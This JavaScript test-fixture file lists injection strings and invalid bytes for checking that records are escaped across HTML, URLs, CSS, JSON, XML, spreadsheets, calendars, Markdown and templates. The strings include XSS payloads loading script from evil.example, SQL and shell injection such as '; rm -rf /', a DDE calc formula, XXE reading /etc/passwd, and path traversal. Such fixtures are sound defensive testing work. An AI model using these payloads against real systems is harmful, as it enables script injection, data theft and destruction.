// Texts that were chosen to break out of whatever they are put into. `taken` are texts that a record may
// hold, and that must come out everywhere as they went in; `refused` are the ones that no record may hold,
// as the bytes between the quotes in a JSON file, with the rule that must refuse them.

const html = [
	'<script>alert(1)</script>', '</script><script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>',
	'<script src="https://evil.example/x.js"></script>', '<script>alert`1`</script>', '<<script>alert(1);//<</script>',
	'<img src=x onerror=alert(1)>', '<img src="https://evil.example/pixel.gif">', '<img/src/onerror=alert(1)>', '<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg/onload=alert(1)//',
	'<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>', '<body onload=alert(1)>',
	'<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="data:text/html,<script>alert(1)</script>">',
	'<embed src="https://evil.example/x.swf">', '<form action="https://evil.example/"><input name=x><button>提交</button></form>',
	'<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<video><source onerror=alert(1)>',
	'<audio src=x onerror=alert(1)>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
	'<link rel="stylesheet" href="https://evil.example/x.css">', '<link rel=prefetch href=//evil.example/>', '<style>@import "https://evil.example/x.css";</style>',
	'<style>body{display:none}</style>', '<a href="javascript:alert(1)">点击</a>', '<a href="https://evil.example/" target=_blank>原文</a>',
	'<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea></textarea><script>alert(1)</script>',
	'<title></title><script>alert(1)</script>', '</title><script>alert(1)</script>', '</h1></main></body></html>', '</td></tr></table><h1>伪造</h1>',
	'</li></ul><p>伪造</p>', '<table><td>伪造', '<plaintext>', '<xmp>', '<listing>', '<select><option>', '<button formaction=javascript:alert(1)>', '<isindex action=javascript:alert(1)>',
	'<x contenteditable onblur=alert(1)>', '<custom-element onclick=alert(1)>', '<frameset onload=alert(1)>', '<portal src=//evil.example>', '<dialog open>伪造</dialog>',
	'<b>绿源', '</b>绿源', '<p>绿源</p>', '<!-- 绿源 -->', '<!--', '-->', '--!>', '<!DOCTYPE html>', '<![CDATA[绿源', ']]>绿源', '<?php echo 1 ?>', '<?xml version="1.0"?>',
	'<!ENTITY x SYSTEM "file:///etc/passwd">', '<!DOCTYPE x [<!ENTITY y "z">]>&y;', '<', '>', '<a', '</', '<>', '<3', 'a<b>c', '甲＜乙＞丙', '＜script＞alert(1)＜/script＞',
];

const attributes = [
	'"', '\'', '`', '""', '\'\'', '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '" onmouseover="alert(1)', '\' onmouseover=\'alert(1)',
	'" onfocus=alert(1) autofocus x="', '" style="position:fixed;inset:0;background:red', '" class="demo', '" id="main', '" href="https://evil.example/', '"/><img src=x onerror=alert(1)>',
	'` onerror=`alert(1)', 'x" y="z', '绿源"有限公司', '绿源\'有限公司', '“绿源”', '=', ' onload=alert(1) ', '/>', '" hidden="', '" accesskey="x" onclick="alert(1)',
];

const urls = [
	'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'java script:alert(1)', 'vbscript:msgbox(1)',
	'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', '//evil.example/x', 'https://evil.example/', 'http://127.0.0.1:9/',
	'\\\\evil.example\\x', '/\\evil.example', 'file:///etc/passwd', '../../../../etc/passwd', '..\\..\\windows', '%2e%2e%2f%2e%2e%2fetc', '%00', '%0d%0aSet-Cookie:x=1', '%3Cscript%3Ealert(1)%3C/script%3E',
	'?x=<script>', '#"><script>alert(1)</script>', 'https://user:pass@evil.example/', 'https://例子.测试/', 'mailto:x@example.com', 'tel:110', 'blob:null/x', 'filesystem:x', 'about:blank',
];

const styles = [
	'expression(alert(1))', 'url(https://evil.example/x)', 'url("javascript:alert(1)")', '};body{display:none', '@import url(//evil.example/x.css)', '\\3c script>', '/*', '*/', '-moz-binding:url(//evil.example/)',
	'behavior:url(x.htc)', '</style><script>alert(1)</script>', 'color:red;background:url(//evil.example/)',
];

const data = [
	'","id":"x', '"}]}', '{"a":1}', '[1,2]', 'null', 'true', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'toString', '\\', '\\\\', '\\"', '\\n', '\\u003cscript\\u003e', '\\u0000', '\\x3cscript>', '\\r\\n',
	'\',\'', '");alert(1);//', '\';alert(1);//', '${alert(1)}', '${7*7}', '#{7*7}', '%{7*7}', '1;DROP TABLE 名单', '\' OR 1=1 --', '$(touch x)', '`touch x`', '| calc', '; rm -rf /', '&& calc', '%s%s%s%n', '%d', '{0}', '{0!}', '{}', '~!@#$%^&*()_+',
];

const xml = [
	'&', '&amp;', '&amp;amp;', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '&#x3c;script&#x3e;', '&#0;', '&#xD;', '&#x110000;', '&nbsp;', '&quot;', '&apos;', '&copy', '&notit;', '&;', '&#;', '&#x;', '&lt', '&CounterClockwiseContourIntegral;',
	'xmlns="evil"', '</entry></feed>', '</title><title>伪造', '</si><si>', '_x0041_绿源', '_x000D_绿源', '_x005F_', '_x0000_', '_x0041',
];

const cells = [
	'=1+1', '=cmd|\' /C calc\'!A0', '+1', '-1', '@SUM(A1:A9)', '＝1+1', '＋1', '－1', '＠SUM(A1)', '=HYPERLINK("https://evil.example/","点")', '=IMPORTXML("https://evil.example/","//a")', ' =1+1', '\'=1', '"=1', '=', '-', '--', '|', ',', ';', 'a,b', 'a;b', '绿源,有限公司', '"绿源"', '","', '"",', '%=1', '(=1)', '1E5', '0001', '2025-01-02',
	'00:00', '1/2', 'TRUE', '#REF!',
];

const lines = [
	'END:VEVENT', 'BEGIN:VALARM', 'END:VCALENDAR', 'SUMMARY:伪造', '\\,', '\\;', '\\N', 'ATTENDEE;X="a":mailto:x', 'DTSTART;VALUE=DATE:20260101', '绿源:有限公司', '绿源;有限公司', 'Set-Cookie: x=1', 'Location: https://evil.example/', '示'.repeat(80), 'x'.repeat(300), 'ab示'.repeat(30),
];

const markdown = [
	'# 绿源', '## 绿源', '* 绿源', '- 绿源', '1. 绿源', '> 绿源', '    绿源', '```', '~~~', '`绿源`', '**绿源**', '_绿源_', '~~绿源~~', '---', '===', '| 绿源 |', '[绿源](https://evil.example/)', '[绿源](javascript:alert(1))', '[绿源](<javascript:alert(1)>)', '[绿源](java&#115;cript:alert(1))',
	'![绿源](https://evil.example/x.png)', '![绿源](x.png)', '[绿源]: https://evil.example/', '[绿源][x]', '<https://evil.example/>', '<x@example.com>', '<javascript:alert(1)>', 'https://evil.example/ www.evil.example', '[^1]', '[^1]: 绿源', '\\*绿源\\*', '\\<script>', '绿源  ', '[ ] 绿源', ':::note', '$$x$$', '{#id}', '[绿源](x "title\\" onclick=alert(1)")', '[[绿源]]',
];

const braces = [
	'{{', '}}', '{{{', '}}}', '{{name}}', '{{{name}}}', '{{page.title}}', '{{{page.site}}}', '{{&name}}', '{{#page}}{{/page}}', '{{^x}}', '{{/main}}', '{{>partials/annex}}', '{{<layout}}', '{{! 绿源 }}', '{{=<% %>=}}', '<% name %>', '{{$main}}', '{{.}}', '{{annex 1}}', '{{annex 99}}', '{% x %}', '{ { x } }', '{{"x"}}', '{{#绿源}}',
];

const characters = [
	'\u3000绿源\u3000', '\u00a0绿源', '绿源 ', ' 绿源', '示 例', '示  例', 'e\u0301绿源', '\u00e9绿源', '𠮷野绿源', '👩绿源', '\ufb01绿源', '①绿源', '㈱绿源', '绿源·有限公司', '绿源•', '绿源—公司', '\u0130stanbul', 'ﬀ', 'Ａ绿源', 'İ', 'ß', '\u05d0\u05d1', '\u0627\u0644', '\ufffd', '\ud83d\ude00', '\u4dc0', '\u0e01\u0e33', '\u0301绿源', '㐀', '\u{1f1e8}\u{1f1f3}', '〔2025〕1号', '（）', '【绿源】', '·',
];

export const taken = [...new Set([...html, ...attributes, ...urls, ...styles, ...data, ...xml, ...cells, ...lines, ...markdown, ...braces, ...characters])];

// What breaks a line off, turns the direction, or prints nothing could make a reader see what is not there.
const hidden = [0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2028, 0x2029, 0x2060, 0x2061, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x00ad, 0x034f, 0x061c, 0x115f, 0x180e, 0x2800, 0x3164, 0xfeff, 0xfff9, 0xfffb,
	0xe000, 0xf8ff, 0xe0001, 0xe0041, 0x7f, 0x85, 0x9b, 0xfe0f, 0xffff, 0x10ffff, 0xfdd0];
const controls = [0x01, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x1f];

const utf8 = (...bytes) => Buffer.from(bytes);
const escaped = (c) => (c > 0xffff ? [...Array(2).keys()].map((i) => String.fromCodePoint(c).charCodeAt(i)) : [c])
	.map((unit) => `\\u${unit.toString(16).padStart(4, '0')}`).join('');

export const refused = [
	...hidden.flatMap((c) => [
		{ bytes: Buffer.from(`甲${String.fromCodePoint(c)}乙`), rule: 'text-hidden-character' },
		{ bytes: Buffer.from(`${escaped(c)}乙`), rule: 'text-hidden-character' },
	]),
	...controls.map((c) => ({ bytes: Buffer.from(`甲${escaped(c)}`), rule: 'text-hidden-character' })),
	...['\\n', '\\r', '\\t', '\\r\\nEND:VEVENT', '\\n=1+1', '\\b', '\\f'].map((s) => ({ bytes: Buffer.from(`甲${s}乙`), rule: 'text-hidden-character' })),
];

// What no JSON file may hold, in a field or elsewhere.
export const broken = [
	...controls.map((c) => ({ bytes: utf8(c), rule: 'json-string' })),
	...['\n', '\r\n'].map((s) => ({ bytes: Buffer.from(s), rule: 'json-string json-unclosed' })), // the latter in front matter, which is read line by line
	{ bytes: Buffer.from('\t'), rule: 'json-string' },
	{ bytes: Buffer.from('\\'), rule: 'json-string json-unclosed' },
	...['\\u0000', '\\ud800', '\\udc00', '\\udc00\\ud800', '\\ud800x', '\\ud83d\\u0041', '\\x41', '\\u12', '\\\''].map((s) => ({ bytes: Buffer.from(s), rule: 'json-string' })),
	{ bytes: utf8(0xff), rule: 'utf8-invalid' }, { bytes: utf8(0xc0, 0xaf), rule: 'utf8-invalid' }, { bytes: utf8(0xc1, 0xbf), rule: 'utf8-invalid' },
	{ bytes: utf8(0xe0, 0x80, 0xaf), rule: 'utf8-invalid' }, { bytes: utf8(0xed, 0xa0, 0x80), rule: 'utf8-invalid' }, { bytes: utf8(0xed, 0xbf, 0xbf), rule: 'utf8-invalid' },
	{ bytes: utf8(0xf4, 0x90, 0x80, 0x80), rule: 'utf8-invalid' }, { bytes: utf8(0xf8, 0x88, 0x80, 0x80, 0x80), rule: 'utf8-invalid' }, { bytes: utf8(0xe4, 0xbd), rule: 'utf8-invalid' },
	{ bytes: utf8(0x80), rule: 'utf8-invalid' }, { bytes: utf8(0xbe, 0xd6), rule: 'utf8-invalid' },
];
